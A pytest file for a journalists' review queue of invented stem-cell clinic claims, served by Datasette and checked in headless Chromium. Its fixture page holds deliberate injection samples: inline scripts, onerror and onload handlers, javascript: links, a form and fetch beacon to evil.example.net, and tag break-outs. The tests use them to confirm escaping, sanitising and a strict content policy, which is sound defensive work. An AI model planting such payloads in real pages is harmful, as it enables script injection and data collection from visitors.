"""The journalist's workspace: the review queue, a claim in its page and the page as
captured, served by a real Datasette process and driven by a real headless Chromium.
Every clinic, domain and claim here is invented."""

from __future__ import annotations

import os
import re
import shutil
import sqlite3
import subprocess
import sys
import urllib.error
import urllib.parse
import urllib.request
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import sqlite_utils
from markupsafe import escape

from analysis.detect.taxonomy import load_taxonomy
from analysis.models import Claim, PageAnalysis
from analysis.store import queue as q
from analysis.store.database import Store
from analysis.store.reviewers import add_reviewer
from conftest import REPO, free_port, wait_for_http
from signin_helpers import PASSWORD, Browser

ARTIFACTS = REPO / ".artifacts"
REQUIRED = os.environ.get("STEMWATCH_REQUIRE_BROWSER") == "1"
CHROMIUM = "/usr/bin/chromium" if os.access("/usr/bin/chromium", os.X_OK) else shutil.which("chromium")
FLAGS = ["--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
         "--disable-component-update", "--disable-sync"]

HARBOR, MAPLE, HOSTILE = "brightharbor.example.org", "maple-regen.example.com", "hostile-clinic.example.net"
RLO = "\u202e"
HOSTILE_BODY = f"""<!DOCTYPE html><html><head><title>Renewal &lt;/title&gt; Clinic</title>
<meta http-equiv="refresh" content="30;url=https://evil.example.net/">
<link rel="stylesheet" href="https://cdn.example.net/site.css">
<style>body {{ background: url(https://tracker.example.net/bg.png) }}</style>
<script>window.pwned=1</script></head>
<body onload="window.pwned=4">
<h1>Renewal Clinic</h1>
<img src=x onerror="window.pwned=2"><img src="https://tracker.example.net/pixel.gif" alt="pixel">
<p>Our doctors listen. We {RLO}evorppa ADF cure autism &lt;/textarea&gt; in weeks. Ask about &lt;/title&gt; prices.</p>
<p><a href="javascript:window.pwned=3">Book now</a> <a href="https://live.example.net/book">or online</a></p>
<iframe src="https://evil.example.net/frame"></iframe>
<form action="https://evil.example.net/collect"><input name="email"><button>Send</button></form>
<script>new Image().src = "/-/pwned-beacon"; fetch("https://evil.example.net/beacon")</script>
<div style="background-image:url(https://tracker.example.net/div.png)">Thank you.</div>
</body></html>"""


def _page(store, crawl, site, url, lines, claims, *, title, body=None, fetched_at):
    """A stored page whose text is `lines`, with claims given as (category, severity, score,
    words, sentence, pattern); a sentence "Heading … item" is a list item."""
    text = "\n".join(lines)
    page = {"crawl_id": crawl, "site": site, "url": url, "status": 200, "title": title, "text": text,
            "fetched_at": fetched_at, "content_type": "text/html; charset=utf-8"}
    if body is not None:
        page["body"] = body.encode("utf-8")
    [page_id] = store.add_pages([page])
    found = []
    for category, severity, score, words, sentence, pattern in claims:
        anchor = sentence.rpartition(" … ")[2]
        start = text.index(words, text.index(anchor))
        found.append(Claim(category, "promoted", words, sentence, start, start + len(words), pattern, severity,
                           "", "", score))
    store.add_analyses([(page_id, PageAnalysis(page_kind="clinic", claims=found, detector_version="t"))])
    return page_id


HARBOR_LINES = ["Welcome to Bright Harbor. We offer hope to every family.", "Conditions we treat:",
                "Autism spectrum disorder", "Parkinson's disease", "Multiple sclerosis",
                "Our cells are FDA approved and 100% safe.", "Call us today."]
HARBOR_CLAIMS = [
    ("disease-cure", "high", 0.9, "Autism spectrum disorder", "Conditions we treat: … Autism spectrum disorder", "dc-disease"),
    ("disease-cure", "high", 0.9, "Parkinson's disease", "Conditions we treat: … Parkinson's disease", "dc-disease"),
    ("disease-cure", "high", 0.9, "Multiple sclerosis", "Conditions we treat: … Multiple sclerosis", "dc-disease"),
    ("regulatory-misrepresentation", "high", 0.6, "FDA approved", "Our cells are FDA approved and 100% safe.", "rm-approved"),
    ("miracle-guarantee", "medium", 0.7, "100% safe", "Our cells are FDA approved and 100% safe.", "mg-miracle"),
]
MAPLE_LINES = ["Maple knees. Our injections regrow cartilage in weeks. Results guaranteed."]
MAPLE_CLAIMS = [
    ("cartilage-regrowth", "medium", 0.8, "regrow cartilage", "Our injections regrow cartilage in weeks.", "cr-regrow"),
    ("miracle-guarantee", "medium", 0.3, "Results guaranteed", "Results guaranteed.", "mg-miracle"),
]
NEW_LINE = "New this year: 95% of patients improve."
NEW_CLAIM = ("unsupported-efficacy", "medium", None, "95% of patients", NEW_LINE, "ue-percent")
HOSTILE_LINES = ["Renewal Clinic", f"Our doctors listen. We {RLO}evorppa ADF cure autism </textarea> in weeks. "
                 "Ask about </title> prices.", "Book now or online", "Thank you."]
HOSTILE_CLAIM = ("disease-cure", "high", 0.5, "cure autism",
                 f"We {RLO}evorppa ADF cure autism </textarea> in weeks.", "dc-disease")


def build_db(path: Path) -> dict:
    """Two crawls of two clinics, a hostile page in the second; returns the claim ids."""
    with Store(path) as store:
        store.upsert_sites([{"url": f"https://www.{HARBOR}/", "site": HARBOR, "name": "Bright Harbor Stem Cell Center",
                             "country": "PA"},
                            {"url": f"https://{MAPLE}/", "site": MAPLE, "name": "Maple Regenerative Clinic",
                             "country": "US"},
                            {"url": f"https://{HOSTILE}/", "site": HOSTILE, "name": f"Renewal {RLO}cinilC",
                             "country": "US"}])
        for crawl, day in ((1, "2026-10-01"), (2, "2026-11-01")):
            assert store.start_crawl([]) == crawl
            harbor = _page(store, crawl, HARBOR, f"https://www.{HARBOR}/conditions/", HARBOR_LINES, HARBOR_CLAIMS,
                           title="Conditions | Bright Harbor", fetched_at=f"{day}T09:00:00Z",
                           body="<html><body><p>Conditions we treat</p></body></html>")
            maple_lines = MAPLE_LINES + ([NEW_LINE] if crawl == 2 else [])
            maple_claims = MAPLE_CLAIMS + ([NEW_CLAIM] if crawl == 2 else [])
            _page(store, crawl, MAPLE, f"https://{MAPLE}/knees/", maple_lines, maple_claims, title="Knees | Maple",
                  fetched_at=f"{day}T10:00:00Z")
            if crawl == 2:
                hostile = _page(store, crawl, HOSTILE, f"https://{HOSTILE}/autism/", HOSTILE_LINES, [HOSTILE_CLAIM],
                                title="Renewal </title><script>window.pwned=5</script> Clinic", body=HOSTILE_BODY,
                                fetched_at=f"{day}T11:00:00Z")
            store.finish_crawl(crawl, "finished")
        add_reviewer(store.db, "ana", PASSWORD)
        ids = {r["text"]: r["id"] for r in store.db.query("select id, text from claims where crawl_id = 2")}
        guaranteed = store.db.execute("select claim_key from claims where id = ?",
                                      [ids["Results guaranteed"]]).fetchone()[0]
        for verdict, note, at in (("unsure", "ask the clinic", "2026-11-02T08:00:00Z"),
                                  ("confirmed", "still on the page </textarea>", "2026-11-03T08:00:00Z")):
            store.db["reviews"].insert({"claim_key": guaranteed, "claim_id": ids["Results guaranteed"],
                                        "verdict": verdict, "note": note, "reviewer": "ana", "reviewed_at": at})
    return {**ids, "harbor_page": harbor, "hostile_page": hostile}


class Served:
    """plain `datasette DB` (the plugin owns every page here), as a process over HTTP."""

    def __init__(self, path: Path):
        self.path, self.name, self.port = path, path.stem, free_port()
        datasette = str(Path(sys.executable).with_name("datasette"))
        self.proc = subprocess.Popen([datasette, str(path), "--port", str(self.port)], cwd=REPO,
                                     stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
        self.base = f"http://127.0.0.1:{self.port}"
        wait_for_http(f"{self.base}/-/versions.json", proc=self.proc)

    def url(self, path: str) -> str:
        return f"{self.base}/{self.name}{path}"

    def get(self, path: str, opener=None) -> tuple[int, dict, str]:
        with (opener or urllib.request.build_opener()).open(self.url(path), timeout=10) as r:
            return r.status, dict(r.headers), r.read().decode("utf-8")

    def stop(self):
        self.proc.terminate()
        self.proc.wait(timeout=10)


@pytest.fixture(scope="module")
def site(tmp_path_factory):
    path = tmp_path_factory.mktemp("queue") / "clinics.db"
    ids = build_db(path)
    served = Served(path)
    try:
        yield served, ids
    finally:
        served.stop()


def queue_rows(html: str) -> list[dict]:
    """Each queue row: the claim it opens, its categories, its quoted text."""
    if 'id="sw-queue"' not in html:
        return []
    rows = []
    for item in re.findall(r"<li>(.*?)</li>", html.split('id="sw-queue"', 1)[1].split("</ol>", 1)[0], re.S):
        rows.append({"claim": int(re.search(r'/-/claim/(\d+)', item).group(1)),
                     "categories": re.findall(r'data-category="([^"]+)"', item),
                     "marks": re.findall(r"<mark>(.*?)</mark>", item)})
    return rows


def left(html: str) -> str:
    return re.search(r'id="sw-left">([^<]*)<', html).group(1)


# -- the queue -------------------------------------------------------------------------
def test_queue_groups_a_list_and_orders_by_severity_then_score(site):
    served, ids = site
    status, _, html = served.get("/-/queue")
    assert status == 200
    rows = queue_rows(html)
    # the list is one row with its three conditions; the FDA sentence one row with both
    # categories; the reviewed claim is not there; high before medium, then by score
    assert [r["marks"] for r in rows] == [
        ["Autism spectrum disorder", "Parkinson&#39;s disease", "Multiple sclerosis"],
        ["FDA approved", "100% safe"],
        ["cure autism"],
        ["regrow cartilage"],
        ["95% of patients"],
    ]
    assert rows[0]["claim"] == ids["Autism spectrum disorder"]  # a list opens at its first condition
    assert rows[0]["categories"] == ["disease-cure"]
    assert rows[1]["categories"] == ["regulatory-misrepresentation", "miracle-guarantee"]
    assert left(html) == "5 statements left to review"
    assert "Results guaranteed" not in html


@pytest.mark.parametrize("args,marks,count", [
    ({"site": "Maple Regenerative Clinic"}, [["regrow cartilage"], ["95% of patients"]], "2 statements"),
    ({"site": HARBOR}, [["Autism spectrum disorder", "Parkinson&#39;s disease", "Multiple sclerosis"],
                        ["FDA approved", "100% safe"]], "2 statements"),
    ({"category": "miracle-guarantee"}, [["FDA approved", "100% safe"]], "1 statement"),
    ({"country": "US"}, [["cure autism"], ["regrow cartilage"], ["95% of patients"]], "3 statements"),
    ({"since": "1"}, [["cure autism"], ["95% of patients"]], "2 statements"),
    ({"since": "1", "country": "US", "category": "unsupported-efficacy"}, [["95% of patients"]], "1 statement"),
    ({"country": "PA", "since": "1"}, [], "0 statements"),
])
def test_queue_filters_narrow_it(site, args, marks, count):
    served, _ = site
    _, _, html = served.get("/-/queue?" + urllib.parse.urlencode(args))
    assert [r["marks"] for r in queue_rows(html)] == marks
    assert left(html) == f"{count} left to review"
    for value in args.values():  # the form shows the filter it applied
        assert value in html


def test_queue_pages_follow_the_same_order(site):
    served, _ = site
    seen, path = [], "/-/queue?_size=2"
    while path:
        _, _, html = served.get(path)
        rows = queue_rows(html)
        assert len(rows) <= 2
        seen += [r["marks"][0] for r in rows]
        nxt = re.search(r'href="/[^/"]+(/-/queue\?[^"]+)" rel="next"', html)
        path = nxt.group(1).replace("&amp;", "&") if nxt else None
    assert seen == ["Autism spectrum disorder", "FDA approved", "cure autism", "regrow cartilage", "95% of patients"]


def test_queue_is_the_home_linked_from_the_index_and_claims_link_to_their_page(site):
    served, ids = site
    with urllib.request.urlopen(served.base + "/", timeout=10) as r:
        index = r.read().decode()
    assert f'href="/{served.name}/-/queue"' in index
    _, _, claims = served.get(f"/claims?id={ids['FDA approved']}")
    assert f'href="/{served.name}/-/claim/{ids["FDA approved"]}"' in claims
    _, _, canned = served.get("/claims_to_review?category=&site=")
    assert f'/{served.name}/-/claim/' in canned and "mark_claim?claim_id=" in canned


# -- a claim in its page -----------------------------------------------------------------
def test_claim_page_shows_the_claim_in_its_paragraph_with_its_warning_and_history(site):
    served, ids = site
    status, _, html = served.get(f"/-/claim/{ids['Autism spectrum disorder']}")
    assert status == 200
    context = html.split('id="sw-context"', 1)[1].split("</div>", 1)[0]
    # the words marked, the sentences around them, from the page's stored text
    assert "<p><mark>Autism spectrum disorder</mark></p>" in context
    for neighbour in ("We offer hope to every family.", "Conditions we treat:", "Parkinson&#39;s disease",
                      "Multiple sclerosis"):
        assert neighbour in context
    assert "Call us today" not in context  # three sentences away
    warning = load_taxonomy().categories["disease-cure"].warning
    assert str(escape(warning)) in html
    assert "Bright Harbor Stem Cell Center" in html and "Conditions | Bright Harbor" in html
    seen = re.sub(r"\s+", " ", html.split('id="sw-seen">', 1)[1].split("</dd>", 1)[0])
    assert "first on 2026-10-01T09:00:00Z (crawl 1)" in seen and "last on 2026-11-01T09:00:00Z (crawl 2)" in seen
    assert "dc-disease" in html  # why the stance: the pattern
    # anyone reads the claim; a reviewer signs in to record a verdict
    assert "Sign in to record a verdict" in html and 'name="verdict"' not in html
    assert f'href="https://www.{HARBOR}/conditions/" rel="noreferrer noopener"' in html and "sw-live" in html

    _, _, reviewed = served.get(f"/-/claim/{ids['Results guaranteed']}")
    history = reviewed.split('id="sw-history"', 1)[1].split("</table>", 1)[0]
    assert re.findall(r"<td>(unsure|confirmed)</td>", history) == ["unsure", "confirmed"]
    assert "ask the clinic" in history and "still on the page &lt;/textarea&gt;" in history


def test_claim_page_shows_hostile_text_escaped_and_visible(site):
    served, ids = site
    _, _, html = served.get(f"/-/claim/{ids['cure autism']}")
    assert RLO not in html and "[RLO]evorppa ADF" in html
    assert "</textarea> in weeks" not in html and "&lt;/textarea&gt; in weeks" in html
    assert "<script>window.pwned" not in html and "&lt;/title&gt;&lt;script&gt;window.pwned=5" in html
    assert "<mark>cure autism</mark>" in html


# -- the page as captured ------------------------------------------------------------------
def test_captured_view_is_sanitised_and_served_under_a_strict_policy(site):
    served, ids = site
    _, _, wrapper = served.get(f"/-/claim/{ids['cure autism']}/captured")
    frame = re.search(r"<iframe[^>]*>", wrapper).group(0)
    assert 'sandbox=""' in frame and "allow-" not in frame
    src = re.search(r'src="([^"]+)"', frame).group(1)
    assert src == f"/{served.name}/-/page/{ids['hostile_page']}/captured"
    assert f'href="https://{HOSTILE}/autism/" rel="noreferrer noopener"' in wrapper

    status, headers, doc = served.get(f"/-/page/{ids['hostile_page']}/captured")
    assert status == 200
    csp = headers["Content-Security-Policy"]
    assert "default-src 'none'" in csp and "img-src data:" in csp and "sandbox" in csp.split(";")[-1]
    assert "script-src" not in csp and "allow-scripts" not in csp
    assert headers["X-Content-Type-Options"] == "nosniff"
    lowered = doc.lower()
    assert "<script" not in lowered and "javascript:" not in lowered
    assert not re.search(r"<[^>]+\son[a-z]+\s*=", lowered)
    assert not re.search(r"<(iframe|form|input|link|meta http-equiv|base)\b", lowered)
    # no address leads anywhere: nothing to fetch, no link to follow off the page
    assert not re.search(r'(src|href)="(?!#|data:)', doc) and "url(" not in lowered
    assert "[RLO]evorppa ADF" in doc and "&lt;/textarea&gt;" in doc and "Thank you." in doc

    _, _, harbor = served.get(f"/-/page/{ids['harbor_page']}/captured")
    assert "Conditions we treat" in harbor
    with pytest.raises(urllib.error.HTTPError) as missing:
        served.get("/-/page/999999/captured")
    assert missing.value.code == 404


# -- recording a verdict -----------------------------------------------------------------
def test_verdict_from_the_claim_page_covers_the_list_and_leaves_the_queue(tmp_path):
    path = tmp_path / "verdicts.db"
    ids = build_db(path)
    served = Served(path)
    try:
        reviewer = Browser(served.base)
        assert reviewer.sign_in("ana")[0] == 200
        browser = reviewer.opener
        claim = ids["Autism spectrum disorder"]
        _, _, form = served.get(f"/-/claim/{claim}?country=PA", browser)
        # the other conditions of the list, ticked for the same verdict; three buttons
        for other in ("Parkinson's disease", "Multiple sclerosis"):
            assert re.search(rf'name="also" value="{ids[other]}" checked', form)
        assert form.count('name="verdict"') == 3 and "<strong>ana</strong>" in form
        token = re.search(r'name="csrftoken" value="([^"]+)"', form).group(1)
        fields = [("csrftoken", token), ("country", "PA"), ("note", "on the page"),
                  ("also", str(ids["Parkinson's disease"])), ("also", str(ids["Multiple sclerosis"])),
                  ("also", str(ids["FDA approved"]))]  # not of this statement: ignored
        data = urllib.parse.urlencode([*fields, ("verdict", "confirmed")]).encode()
        with browser.open(urllib.request.Request(served.url(f"/-/claim/{claim}"), data=data), timeout=10) as r:
            # on to the next statement of the same filter, with a message saying what was recorded
            assert urlsplit(r.url).path == f"/{served.name}/-/claim/{ids['FDA approved']}"
            assert "country=PA" in r.url and "Recorded confirmed for 3 claims." in r.read().decode()
        with sqlite3.connect(path) as conn:
            reviews = conn.execute("select claim_id, verdict, note, reviewer from reviews where verdict = 'confirmed' "
                                   "and reviewer = 'ana' and note = 'on the page' order by claim_id").fetchall()
        assert [r[0] for r in reviews] == sorted([claim, ids["Parkinson's disease"], ids["Multiple sclerosis"]])
        _, _, html = served.get("/-/queue")
        assert left(html) == "4 statements left to review"
        assert "Autism spectrum disorder" not in html

        bad = urllib.parse.urlencode([*fields, ("verdict", "maybe")]).encode()
        with pytest.raises(urllib.error.HTTPError) as refused:
            browser.open(urllib.request.Request(served.url(f"/-/claim/{ids['FDA approved']}"), data=bad), timeout=10)
        assert refused.value.code == 400 and "Not recorded" in refused.value.read().decode()
        # without the form's cookie and token (another site's page, curl), or signed out: nothing written
        with pytest.raises(urllib.error.HTTPError) as refused:
            urllib.request.urlopen(urllib.request.Request(served.url(f"/-/claim/{ids['FDA approved']}"), data=data),
                                   timeout=10)
        assert refused.value.code == 403
        anonymous = Browser(served.base)
        token = anonymous.token()  # a CSRF cookie and token of this Datasette, but no reviewer
        status, body, _ = anonymous.open(f"/{served.name}/-/claim/{ids['FDA approved']}",
                                         {"csrftoken": token, "verdict": "confirmed"})
        assert status == 403 and "sign in" in body
        with sqlite3.connect(path) as conn:
            assert conn.execute("select count(*) from reviews").fetchone()[0] == 2 + 3
    finally:
        served.stop()


# -- the queries, without a server -----------------------------------------------------------
def test_sightings_agree_with_claim_status(tmp_path):
    path = tmp_path / "clinics.db"
    build_db(path)
    db = sqlite_utils.Database(path)
    columns = ("first_seen_crawl", "first_seen_at", "last_seen_crawl", "last_seen_at", "crawls_seen", "present",
               "removed_in_crawl", "removed_observed_at", "removed_reason")
    rows = list(db.query("select * from claim_status"))
    assert rows
    for row in rows:
        assert q.sightings(db, row["claim_key"]) == {c: row[c] for c in columns}


def test_queue_answers_the_same_without_its_indexes(tmp_path):
    path = tmp_path / "clinics.db"
    build_db(path)
    db = sqlite_utils.Database(path)
    filters = [q.QueueFilter(), q.QueueFilter(category="miracle-guarantee"), q.QueueFilter(site=MAPLE),
               q.QueueFilter(country="US", since_crawl=1)]
    with_index = [(q.queue_leaders(db, f), q.queue_left(db, f)) for f in filters]
    assert q.has_queue_index(db)
    for name in ("idx_claims_queue", "idx_claims_queue_category", "idx_claims_queue_site"):
        db.execute(f"drop index {name}")
    assert not q.has_queue_index(db)
    assert [(q.queue_leaders(db, f), q.queue_left(db, f)) for f in filters] == with_index
    # a page of one, then the next, walks the same order
    one = q.queue_leaders(db, q.QueueFilter(), limit=1)
    two = q.queue_leaders(db, q.QueueFilter(), q.Cursor(one[0]["rank"], one[0]["id"]), limit=1)
    assert [one[0]["id"], two[0]["id"]] == [r["id"] for r in with_index[0][0][:2]]


# -- in Chromium ---------------------------------------------------------------------------
def test_in_chromium_keyboard_queue_claim_and_captured_page_run_nothing(site):
    served, ids = site
    if CHROMIUM is None:
        if REQUIRED:
            pytest.fail("chromium is not installed (apt-get install chromium)")
        pytest.skip("chromium is not installed (apt-get install chromium)")
    sync_api = pytest.importorskip("playwright.sync_api")
    ARTIFACTS.mkdir(exist_ok=True)
    requests: list[str] = []
    with sync_api.sync_playwright() as pw:
        browser = pw.chromium.launch(executable_path=CHROMIUM, headless=True,
                                     args=[*FLAGS, "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
        try:
            context = browser.new_context(viewport={"width": 1280, "height": 900})
            context.on("request", lambda r: requests.append(r.url))
            page = context.new_page()
            # a reviewer signs in first: the whole morning's work, in one browser
            page.goto(f"{served.base}/-/stemwatch-login?next=/{served.name}/-/queue")
            page.fill("input[name=name]", "ana")
            page.fill("input[name=password]", PASSWORD)
            with page.expect_navigation():
                page.click("input[type=submit]")
            page.goto(served.url("/-/queue"))
            focused = "document.activeElement.getAttribute('href')"
            links = page.eval_on_selector_all("#sw-queue a.sw-open", "els => els.map(e => e.getAttribute('href'))")
            assert len(links) == 5 and page.evaluate(focused) == links[0]
            outline = page.evaluate("getComputedStyle(document.activeElement).outlineStyle")
            assert outline not in ("", "none")  # focus is visible
            page.screenshot(path=str(ARTIFACTS / "queue.png"))
            page.keyboard.press("j")
            page.keyboard.press("ArrowDown")
            assert page.evaluate(focused) == links[2]
            page.keyboard.press("k")
            page.keyboard.press("j")
            assert page.evaluate(focused) == links[2]
            with page.expect_navigation():
                page.keyboard.press("Enter")
            assert urlsplit(page.url).path == f"/{served.name}/-/claim/{ids['cure autism']}"
            assert page.evaluate("typeof window.pwned") == "undefined"
            assert page.inner_text("mark") == "cure autism"
            page.screenshot(path=str(ARTIFACTS / "claim.png"), full_page=True)
            claim_url = page.url
            page.fill("textarea[name=note]", "seen in the browser")
            with page.expect_navigation():
                page.click("button[value=unsure]")
            page.goto(claim_url)  # the verdict is in the claim's history, under the signed-in name
            history = page.inner_text("body")
            assert "seen in the browser" in history and "ana" in history
            page.screenshot(path=str(ARTIFACTS / "claim-reviewed.png"), full_page=True)

            with page.expect_navigation():
                page.click("text=the page as captured")
            frame_el = page.wait_for_selector("#sw-captured")
            frame = frame_el.content_frame()
            frame.wait_for_load_state("load")
            assert "Thank you." in frame.inner_text("body")
            assert frame.evaluate("typeof window.pwned") == "undefined"
            assert page.evaluate("typeof window.pwned") == "undefined"
            page.wait_for_timeout(300)  # time for a stray script's requests, were one to run
            page.screenshot(path=str(ARTIFACTS / "captured.png"), full_page=True)
            page.goto(f"{served.base}/-/logout")
            with page.expect_navigation():
                page.click("input[value='Log out']")
            page.goto(claim_url)
            assert "Sign in to record a verdict" in page.inner_text("body")  # signed out: reading only
        finally:
            browser.close()
    loopback = {"127.0.0.1", "localhost"}
    away = [u for u in requests if urlsplit(u).scheme not in ("data", "about") and urlsplit(u).hostname not in loopback]
    assert away == []
    assert not [u for u in requests if "pwned-beacon" in u]
    assert any(f"/-/page/{ids['hostile_page']}/captured" in u for u in requests)
    conn = sqlite3.connect(served.path)
    try:
        assert conn.execute("select verdict, reviewer from reviews where note = 'seen in the browser'").fetchall() \
            and {r for r in conn.execute("select verdict, reviewer from reviews where note = 'seen in the browser'")} \
            == {("unsure", "ana")}
    finally:
        conn.close()
    for name in ("queue.png", "claim.png", "captured.png", "claim-reviewed.png"):
        assert (ARTIFACTS / name).read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"

